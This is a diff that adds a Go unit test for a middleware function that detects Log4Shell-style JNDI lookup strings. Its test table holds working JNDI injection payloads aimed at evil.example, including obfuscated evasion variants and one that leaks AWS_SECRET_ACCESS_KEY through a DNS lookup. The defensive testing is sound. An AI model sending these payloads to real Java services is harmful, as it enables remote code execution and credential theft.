@@ -0,0 +1,30 @@
+package middleware
+
+import "testing"
+
+func TestDetectJNDI(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  bool
+	}{
+		{"plain", "Mozilla/5.0 (X11; Linux x86_64)", false},
+		{"other lookup", "${env:HOME}", false},
+		{"template", "Hello ${name}, jndi: is a Java API", false},
+
+		{"ldap", "${jndi:ldap://evil.example/a}", true},
+		{"uppercase", "${JNDI:LDAP://evil.example/a}", true},
+		{"dns", "${jndi:dns://evil.example}", true},
+		{"lower", "${${lower:j}ndi:ldap://evil.example/a}", true},
+		{"upper", "${${upper:j}${upper:n}di:rmi://evil.example/a}", true},
+		{"defaults", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", true},
+		{"env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}", true},
+		{"nested", "${${lower:${lower:j}}ndi:ldap://evil.example/a}", true},
+		{"exfiltration", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}", true},
+	}
+	for _, tt := range tests {
+		if got, reason := DetectJNDI(tt.input); got != tt.want {
+			t.Errorf("%s: expected %v, got %v (%s)", tt.name, tt.want, got, reason)
+		}
+	}
+}